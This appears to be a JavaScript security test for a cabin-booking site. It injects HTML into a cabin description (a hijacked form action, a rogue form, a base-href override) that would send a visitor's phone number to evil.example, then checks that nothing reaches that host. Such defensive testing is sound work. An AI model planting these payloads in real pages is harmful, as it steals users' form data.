const lotte = await victim('lotte@maas.example');
const phone = `555-0${number(100, 999)}`;
const ways = [
  '<button id="lure" form="book" formaction="https://evil.example/in">Book with breakfast</button>',
  '<form action="https://evil.example/in"><input name="phone" value="x"><button id="lure">Book with breakfast</button></form>',
  '<base href="https://evil.example/">',
];
for (const html of shuffle(ways)) {
  sql('UPDATE cabins SET description = ? WHERE id = 2', html);
  const page = await lotte.visit('/cabins/2');
  await lotte.fill('#book [name=phone]', phone);
  await lotte.click(page.find('#lure') !== null ? '#lure' : '#book button');
}
expect(events('outgoing').filter((event) => event.host === 'evil.example'), 'a form of the page was sent to evil.example').toBeEmpty();
